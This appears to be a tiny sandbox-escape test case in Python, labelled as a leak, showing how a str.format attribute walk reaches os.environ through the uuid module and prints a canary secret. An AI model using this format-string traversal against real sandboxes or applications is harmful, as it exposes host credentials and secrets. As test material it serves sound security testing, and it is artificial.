# Str.format attribute walk leaks host data (os.environ through uuid).
# breach: leak
import uuid
print('{0.os.environ[SECRET_CANARY]}'.format(uuid))
